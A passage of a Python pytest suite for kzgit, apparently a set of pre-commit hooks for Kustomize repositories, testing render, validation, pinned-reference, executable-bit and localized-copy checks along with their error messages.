    (repo / "sub" / "link.yaml").symlink_to("../in.yaml")
    (repo / "sub" / "deeper").symlink_to(repo / "sub")
    read = disk_reader(str(repo))
    assert read("ext/k.yaml") is None and read("../outside/k.yaml") is None
    assert read("sub/../../outside/k.yaml") is None and read("sub") is None
    assert read("sub/link.yaml") == b"a" and read("sub/deeper/link.yaml") == b"a"


def test_all_files_means_every_root_and_untracked_overlays_are_ignored(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """`pre-commit run --all-files` passes every tracked file: every root is affected."""
    repo = make_repo(tmp_path / "r", GOOD)
    write(repo, {"overlays/wip/kustomization.yaml": "resources:\n- ../../base\n- missing.yaml\n"})
    every = git(repo, "ls-files").split()
    assert kz(repo, monkeypatch, capsys, "hook", "render", *every) == (0, "", "")
    git(repo, "add", "overlays/wip")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", *every)
    assert rc == 1 and out.startswith("overlays/wip: does not render")


def test_pinned_refs_images_and_helm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    fn = ("apiVersion: v1\nkind: Fn\nmetadata:\n  name: f\n  annotations:\n"
          "    config.kubernetes.io/function: |\n      container:\n        image: {image}\n")
    k = ("transformers:\n- fn.yaml\nhelmCharts:\n- name: c\n  repo: https://charts.example.com\n{version}")
    repo = make_repo(tmp_path / "r", {"o/kustomization.yaml": k.format(version="  version: 1.2.3\n"),
                                      "o/fn.yaml": fn.format(image="gcr.io/x/fn:v1.0.0")})
    assert kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "--all") == (0, "", "")
    write(repo, {"o/kustomization.yaml": k.format(version=""), "o/fn.yaml": fn.format(image="gcr.io/x/fn")})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "o/fn.yaml")
    assert rc == 1
    assert "o/kustomization.yaml:5: https://charts.example.com c@: helm chart has no version" in out
    assert "o/fn.yaml:8: gcr.io/x/fn: image has no tag or digest" in out


def test_pinned_refs_checks_the_cache_only_when_asked(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """By default the verdict is the name rule's alone, the same on a fresh clone and after a
    build filled the cache; `refs.check-cache = true` also refuses a ref the cache knows as a
    branch (offline a name cannot tell a tag from a branch; the cache can)."""
    import json

    from kzgit.remote import parse_repo_spec
    from kzgit.remote._cache import RepoCache

    url = "https://github.com/org/repo//deploy?ref=release-1.2"
    monkeypatch.setenv("KZGIT_CACHE_DIR", str(tmp_path / "cache"))
    spec = parse_repo_spec(url)
    assert spec is not None
    cache = RepoCache(spec)
    os.makedirs(cache.dir)
    refs = {"tags": {}, "branches": {"release-1.2": "b" * 40}}
    Path(cache.dir, "refs.json").write_text(json.dumps(refs))
    repo = make_repo(tmp_path / "r", {"o/kustomization.yaml": f"resources:\n- {url}\n"})
    assert kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "o/kustomization.yaml") == (0, "", "")
    write(repo, {".kzgit.toml": "[refs]\ncheck-cache = true\n"})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "o/kustomization.yaml")
    assert rc == 1 and "ref 'release-1.2' is a branch in the cached repository" in out
    Path(cache.dir, "refs.json").write_text(json.dumps({"tags": {"release-1.2": "c" * 40}, "branches": {}}))
    assert kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "o/kustomization.yaml") == (0, "", "")


def test_localized_setting_bounds_where_copies_are(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {".kzgit.toml": "localized = ['vendor/**']\n",
                                      "vendor/c/localized-files/bin": "x", "docs/localized-files/example": "x"},
                     commit=False)
    for p in ("vendor/c/localized-files/bin", "docs/localized-files/example"):
        (repo / p).chmod(0o755)
    git(repo, "add", "-A")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all")
    assert rc == 1 and out == "vendor/c/localized-files/bin: removed executable bit (work tree, index)\n"


def test_localized_sync_prints_one_rebuild_command_and_repo_relative_paths(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    (repo / "vendor").mkdir()
    rc, _, err = kz(repo, monkeypatch, capsys, "localize", "overlays/prod", "vendor/copy", "--scope", ".")
    assert rc == 0, err
    git(repo, "add", "-A")
    write(repo, {"base/cm.yaml": GOOD["base/cm.yaml"].replace("a: b", "a: changed"),
                 "vendor/copy/base/cm.yaml": "edited: by hand\n"})
    for argv in (["base/cm.yaml"], ["--all"]):
        rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "localized-sync", *argv)
        assert rc == 1
        assert out.count("kzgit rebuild") == 1 and out.endswith("    run: kzgit rebuild vendor/copy\n"), out
        assert str(tmp_path) not in out
        assert "vendor/copy/base/cm.yaml: its original 'base/cm.yaml' changed since localization" in out
        assert "vendor/copy/base/cm.yaml: modified in the copy (edit the original instead)\n" in out
    git(repo, "add", "-A")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "localized-sync", "--all", "--staged")
    assert rc == 1 and out.count("kzgit rebuild") == 1 and str(tmp_path) not in out, out
    assert "kzgit-hook-" not in out


@pytest.mark.parametrize("hook,flags", [
    ("render", ["--staged", "--rev", "--shard", "--no-cache"]),
    ("validate", ["--staged", "--strict", "--crd", "--shard"]),
    ("all", ["--staged", "--require-sha", "--check", "--no-cache"]),
    ("localized-sync", ["--staged", "--offline"]),
    ("pinned-refs", ["--require-sha"]),
    ("exec-bits", ["--check"]),
])
def test_each_hook_s_help_lists_its_arguments(hook: str, flags: List[str],
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """A hook's arguments are built when that hook parses (one run builds one hook's)."""
    with pytest.raises(SystemExit) as e:
        main(["hook", hook, "--help"])
    out = capsys.readouterr().out
    assert e.value.code == 0 and all(f in out for f in flags), out
    with pytest.raises(SystemExit) as e:
        main(["hook", hook, "--staged", "--rev", "HEAD"])
    assert e.value.code == 2 and "not allowed with" in capsys.readouterr().err   # one group still


# -- a change of the settings re-checks every root (issue 33 item 6) ---------------------------
_SOURCE_VALUE = {
    "app/kustomization.yaml": "resources:\n- cm.yaml\nreplacements:\n- sourceValue: x\n  targets:\n"
                              "  - select: {kind: ConfigMap}\n    fieldPaths: [data.a]\n",
    "app/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  a: b\n",
}


@pytest.mark.parametrize("hook", ["render", "validate", "lint", "all"])
@pytest.mark.parametrize("settings, change", [
    (".kzgit.toml", 'kustomize-version = "5.6.0"\n'),
    ("pyproject.toml", '[project]\nname = "x"\n\n[tool.kzgit]\nkustomize-version = "5.6.0"\n'),
])
def test_a_settings_change_alone_re_renders_every_root(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        hook: str, settings: str, change: str) -> None:
    """Pinning 5.6.0 under a root that uses sourceValue (5.7+) breaks it, though the commit
    changes no file any root reaches: the hooks see it."""
    before = 'kustomize-version = "5.8.1"\n' if settings == ".kzgit.toml" else \
        '[project]\nname = "x"\n\n[tool.kzgit]\nkustomize-version = "5.8.1"\n'
    repo = make_repo(tmp_path / "r", {**_SOURCE_VALUE, settings: before})
    write(repo, {settings: change})
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True, timeout=60)
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", hook, settings)
    assert rc == 1, out
    assert "needs Kustomize 5.7 or later" in out and "sourceValue" in out


def test_a_pyproject_change_outside_tool_kzgit_re_renders_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {**_SOURCE_VALUE, "app/kustomization.yaml": "resources: [missing.yaml]\n",
                                      "pyproject.toml": '[project]\nname = "x"\nversion = "1"\n'})
    write(repo, {"pyproject.toml": '[project]\nname = "x"\nversion = "2"\n'})
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True, timeout=60)
    assert kz(repo, monkeypatch, capsys, "hook", "render", "pyproject.toml")[0] == 0


# -- a shared base's break is said once (issue 33 item 6) ----------------------------------------
_SHARED_BREAK = {"base/kustomization.yaml": "resources:\n- gone.yaml\n",
                 **{f"o{i}/kustomization.yaml": "resources:\n- ../base\n" for i in (1, 2, 3)}}


def test_validate_says_a_shared_bases_chain_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", _SHARED_BREAK)
    rc, out, _ = kz(repo, monkeypatch, capsys, "validate", "--all")
    assert rc == 1
    lead = "base/kustomization.yaml:2: resources: 'gone.yaml' does not exist"
    assert out.count("    accumulating resources: ") == 1, out   # the chain once
    assert f"o2: does not render: {lead} (as o1, above)" in out
    assert f"o3: does not render: {lead} (as o1, above)" in out


def test_lint_makes_one_finding_of_a_shared_bases_break(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", _SHARED_BREAK)
    rc, out, _ = kz(repo, monkeypatch, capsys, "lint", "--all")
    assert rc == 1
    findings = [ln for ln in out.splitlines() if "[render-error]" in ln]
    assert findings == ["base/kustomization.yaml:2: error: resources: o1 and 2 other roots (o2, o3) do not "
                        "render: base/kustomization.yaml:2: resources: 'gone.yaml' does not exist [render-error]"]
